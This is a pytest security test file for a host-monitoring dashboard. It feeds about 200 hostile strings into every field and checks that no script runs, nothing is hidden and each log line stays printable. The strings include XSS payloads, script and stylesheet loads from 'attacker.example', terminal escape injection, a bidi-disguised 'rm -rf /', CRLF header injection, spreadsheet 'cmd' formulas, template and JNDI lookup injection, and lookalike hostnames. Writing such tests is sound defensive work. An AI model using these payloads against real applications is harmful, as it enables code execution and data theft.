"""T23: 200 hostile texts in every field that EGO shows: a real browser runs none of them, and each log line stays one line.

Texts for HTML, terminals (ANSI, OSC 8), bidi, line breaks, spreadsheets, templates, and letters that look like others.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from mirror_stage.access.passwords import hashed
from mirror_stage.core.names import is_printable
from tests.builders import make_sample
from tests.hud.browser import needs_browser, needs_hud, opened
from tests.hud.conftest import PATIENT
from tests.security.credentials import PASSWORD, run
from tests.security.raw import answer_of, ask, connect
from tests.servers import EgoServer, running_ego

ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "object data=x", "details open", "input autofocus",
    "select autofocus", "iframe", "math", "a href=#", "style",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "ontoggle", "onfocus")
HTML = [f"<{element} {handler}=ran(1)>" for element in ELEMENTS for handler in HANDLERS] + [
    "<script>ran(1)</script>",
    "</script><script>ran(1)</script>",
    "</style><script>ran(1)</script>",
    "</title><script>ran(1)</script>",
    "--><script>ran(1)</script>",
    "]]><script>ran(1)</script>",
    "<ScRiPt>ran(1)</sCrIpT>",
    "<script src=//attacker.example>",
    "<script src=data:,ran(1)></script>",
    "\"><script>ran(1)</script>",
    "'><script>ran(1)</script>",
    '" onmouseover="ran(1)" x="',
    "' autofocus onfocus='ran(1)",
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "java\tscript:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "<a href=javascript:ran(1)>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'>",
    "<iframe src=javascript:parent.ran(1)>",
    "<object data=javascript:ran(1)>",
    "<embed src=javascript:ran(1)>",
    "<form action=javascript:ran(1)><button>x",
    "<meta http-equiv=refresh content=0;url=//attacker.example>",
    "<base href=//attacker.example>",
    "<link rel=stylesheet href=//attacker.example>",
    "<style>@import '//attacker.example'</style>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><a xlink:href=javascript:ran(1)><text>x",
    "<math><mi xlink:href=javascript:ran(1)>x",
    "<template><img src=x onerror=ran(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<div style=background:url(//attacker.example)>",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;script&#62;ran(1)",
    "\\u003cscript\\u003eran(1)",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "+ADw-script+AD4-ran(1)",
    "<\x00script>ran(1)".replace("\x00", "\x01"),
]  # fmt: skip
TERMINAL = [f"\x1b[{code}" for code in ("2J", "1K", "31mred", "8mhidden", "H", "6n", "?1049h", "5i", ">0q", "21t", "999D")] + [
    f"\x1b]{code}" for code in ("0;owned\x07", "2;owned\x1b\\", "52;c;b3duZWQ=\x07", "4;1;?\x07", "1337;File=:AAAA\x07", "9;x\x07")
] + [
    "\x1b]8;;https://attacker.example\x1b\\safe\x1b]8;;\x1b\\",
    "\x1b]8;;javascript:ran(1)\x07safe\x1b]8;;\x07",
    "\x1b]8;;file:///etc/passwd\x1b\\safe\x1b]8;;\x1b\\",
    "\x1b]8;id=x;data:text/html,x\x07safe\x1b]8;;\x07",
    "\x1bP$q\"p\x1b\\", "\x1b_G;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bc", "\x9b31m", "\x9d0;owned\x9c", "\x90q\x9c",
    "\x08\x08\x08gone", "\x07bell", "\x7f\x7f", "\x0e\x0f", "\x1b[31m<script>ran(1)</script>\x1b[0m",
]  # fmt: skip
BIDI = [f"web{mark}10-bd" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"] + [
    "\u202e<script>ran(1)</script>",
    "rm -rf /\u2066 # harmless\u2069",
]
LINES = [
    "a\r\nSet-Cookie: owned=1", "a\nX-Injected: 1", 'a\n{"at":"","level":"error"}', "a\rover", "a\x85b", "a\u2028b", "a\u2029b",
    "a\x0bb", "a\x0cb", "%0d%0aX: 1", "a\\r\\nX: 1", "\n\n\n\n\n", "a\r\n\r\n<script>ran(1)</script>",
]  # fmt: skip
SHEETS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//attacker.example")',
    "=IMPORTXML(1,2)", ";=1+1", '","=1+1', "＝1+1", " =1+1", "%0A=1+1", "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%import os%}", "{{config}}", "${jndi:ldap://attacker.example}", "{@html 'x'}",
    "{0.__class__}", "%(x)s", "%s%s%n", "$(id)", "`id`", "{{constructor.constructor('ran(1)')()}}", "__proto__", "[[7*7]]",
]  # fmt: skip
ALIKE = [
    "wеb-01", "ｗeb-01", "web‐01", "web-O1", "web-0l", "web\u200b-01", "web\u2060-01", "web-01\u3164", "web-01\ufe0f", "web\u00ad-01",
    "weḃ-01", "we\u0301b-01", "wéb-01", "𝐰eb-01", "web-01\u2800", "web-01\U000e0041",
]  # fmt: skip
TEXTS = [*HTML, *TERMINAL, *BIDI, *LINES, *SHEETS, *TEMPLATES, *ALIKE]
FEW = 50  # in a quick run a browser opens each 50th host

WATCH = """
addEventListener("securitypolicyviolation", (event) => violated(`${event.violatedDirective} ${event.blockedURI}`));
"""
WITH_HANDLERS = """
[...document.querySelectorAll("*")].filter((one) => [...one.attributes].some((each) => each.name.startsWith("on")))
  .map((one) => one.outerHTML.slice(0, 200))
"""


@pytest.fixture(scope="module")
def ego(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EgoServer]:
    """An EGO that has been told all texts in all fields. Each host has another one in each of its fields."""
    with running_ego(tmp_path_factory.mktemp("hostile"), PATIENT) as server:
        answer = server.post_samples(*[sample_of(number) for number in range(len(TEXTS))])
        assert answer.status_code == 202, answer.text
        tell_commands(server)
        tell_people(server)
        yield server


def text_of(number: int, field: int = 0) -> str:
    return TEXTS[(number + 13 * field) % len(TEXTS)]


def host_of(number: int) -> str:
    return f"host-{number:03}"


def sample_of(number: int) -> dict[str, Any]:
    texts = iter([text_of(number, field) for field in range(40)])
    return make_sample(
        host_of(number),
        cpu_percent=97,
        temperatures={next(texts): 99},
        **{name: next(texts) for name in ("agent_version", "platform", "rack", "system_manufacturer", "system_model")},
        **{name: next(texts) for name in ("bios_version", "cpu_model", "os_distro", "os_release", "os_kernel")},
        tags={name: next(texts) for name in ("display_name", "role", "room", "tier", "uplink", "note")} | {next(texts): next(texts)},
        disks=[{"device": next(texts), "mountpoint": next(texts), "fstype": next(texts), "used_percent": 99}],
        interfaces=[{"name": next(texts), "bytes_sent": 1}],
        primary_interface=next(texts),
        top_processes=[{"pid": 1, "name": next(texts), "username": next(texts), "cpu_percent": 50}],
    )  # fmt: skip


def tell_commands(ego: EgoServer) -> None:
    """Each FEWth host has run a command; its output has all texts."""
    for number in range(0, len(TEXTS), FEW):
        host, text = host_of(number), text_of(number, 5)
        body = {"hostname": host, "command": f"echo {text}", "metadata": {text: text}}
        id = ego.post("/api/commands", json=body).json()["id"]
        assert id in ego.get(f"/api/commands/pending/{host}").text
        result = {"status": "failed", "exitCode": 1, "stdout": "\n".join(TEXTS), "stderr": "\n".join(reversed(TEXTS))}
        assert ego.post(f"/api/commands/{id}/result", json=result).status_code == 201


def tell_people(ego: EgoServer) -> None:
    """Tokens, sessions, and tries to sign in."""
    ego.rows(
        "INSERT INTO principals (name, role, password_hash, created_at) VALUES ('vera', 'viewer', ?, 0)",
        hashed(PASSWORD),
    )
    for number in range(0, len(TEXTS), FEW):
        text = text_of(number, 3)
        assert ego.post("/api/tokens", json={"role": "viewer", "note": text}).status_code == 201
        agent = {"User-Agent": "".join(char for char in text if char.isprintable()).encode()}
        assert ego.post("/api/session", json={"name": "vera", "password": PASSWORD}, headers=agent).status_code == 201
        fail_to_sign_in(ego, text, f"127.0.2.{number + 1}")


def fail_to_sign_in(ego: EgoServer, name: str, peer: str) -> None:
    """The first failure of each peer is recorded at once."""
    body = json.dumps({"name": name, "password": "wrong"})
    head = f"POST /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {len(body)}"
    with connect(ego, peer) as client:
        client.sendall(f"{head}\r\nConnection: close\r\n\r\n{body}".encode())
        assert answer_of(client).status == 401


class Watched:
    """A page of the HUD, and what it did that it must not do."""

    def __init__(self, page: Page, ego: EgoServer):
        self.page, self.did = page, list[str]()
        page.expose_function("ran", lambda *_: self.did.append("a script ran"))
        page.expose_function("violated", self._violated)
        page.on("dialog", lambda dialog: self.did.append(dialog.message))
        page.add_init_script(WATCH)
        self._url = ego.url

    def _violated(self, what: str) -> None:
        self.did.append(f"against the CSP: {what}")

    def at(self, place: str) -> None:
        """Open a place of the HUD."""
        self.page.goto(f"{self._url}/?probe=1{place}")
        self.page.locator("[data-is-ready=true]").wait_for(timeout=60_000)
        assert self.did == [], place
        assert self.page.evaluate(WITH_HANDLERS) == [], place
        self.shows_what_it_hides(place)

    def shows_what_it_hides(self, place: str, part: str = "body") -> str:
        """The text of a part of the page, of which every character can be seen."""
        text = self.page.locator(part).inner_text()
        lines = text.replace("\t", "\n").replace("\xa0", " ").split("\n")  # a tab is between two cells
        hidden = [line for line in lines if not is_printable(line)]
        assert hidden == [], place
        return text


def numbers(*, every: int) -> range:
    return range(0, len(TEXTS), every)


@needs_browser
@needs_hud
@pytest.mark.parametrize("every", [FEW, pytest.param(1, marks=pytest.mark.long)])
def test_a_browser_shows_every_field_as_text(browser: Browser, ego: EgoServer, every: int) -> None:
    with opened(browser, "about:blank", locked=True, origin=ego.url) as page:
        watched = Watched(page, ego)
        for number in numbers(every=every):
            watched.at(f"#/host/{host_of(number)}")
            assert host_of(number) in page.locator("main").inner_text()
            watched.at(f"#/table?sel={host_of(number)}")
        for place in ("#/", "#/table", "#/table?sort=os", "#/alerts", "#/history", "#/access", "#/?wall=1"):
            watched.at(place)
        for number in numbers(every=FEW):
            watched.at(f"#/console?to=host:{host_of(number)}")
            expect(page.locator(".targets .chip")).to_contain_text(host_of(number))
            expect(page.locator(".runs .whose").filter(has_text=host_of(number))).to_have_count(1)
            watched.shows_what_it_hides("the runs", ".runs")
            page.get_by_text("echo ").first.click()
            expect(page.get_by_text("ran(1)").first).to_be_attached()
            assert watched.did == []
            assert page.evaluate(WITH_HANDLERS) == []
        page.goto(f"{ego.url}/plain")
        expect(page.locator("tbody tr").nth(199)).to_be_attached()
        assert (watched.did, page.evaluate(WITH_HANDLERS)) == ([], [])
        text = watched.shows_what_it_hides("/plain")
        assert r"\u202e" in text
        assert [host_of(number) for number in range(len(TEXTS)) if host_of(number) not in text] == []


def test_there_are_two_hundred_texts_of_every_kind() -> None:
    assert len(TEXTS) >= 200
    assert len(set(TEXTS)) == len(TEXTS)


def test_every_event_is_one_line_of_the_log_and_no_terminal_obeys_it(ego: EgoServer) -> None:
    """The texts as names, queries, events and credentials that EGO refuses, and says so in its log."""
    for number, text in enumerate(TEXTS):
        peer = f"127.0.1.{number % 200 + 1}"  # EGO logs each peer and status once in ten minutes
        body = json.dumps({"samples": [make_sample(f"x{text}/"), {"hostname": text}]})
        with_body = {"Content-Type": "application/json"}
        assert ego.post("/api/metrics/batch", data=body, headers=with_body).status_code == 400
        ego.get("/api/commands", params={"status": text})
        shown = "".join(char for char in text if " " <= char <= "~")
        ask(ego, "/api/twin/state", peer=peer, Host="attacker.example", User_Agent=shown, Referer=shown)
        ask(ego, "/api/twin/state", peer=peer, Origin=f"http://{shown}")
        ask(ego, "/api/me", peer=peer, Authorization=f"Bearer ms_{shown}")
    lines = ego.log.split("\n")
    assert lines.pop() == ""
    assert len(lines) > 20
    for line in lines:
        assert line.isprintable(), line
        assert set(json.loads(line)) >= {"at", "level", "logger", "message"}


@pytest.mark.parametrize(
    "command",
    [
        "tokens list",
        "tokens list --json",
        "sessions list",
        "audit list --rows 100",
        "audit list --json",
        "audit export",
    ],
)
def test_no_terminal_obeys_what_a_command_lists(ego: EgoServer, command: str) -> None:
    printed = run(ego, command)
    assert len(printed.splitlines()) > 1
    for line in printed.split("\n"):
        assert line.isprintable(), line
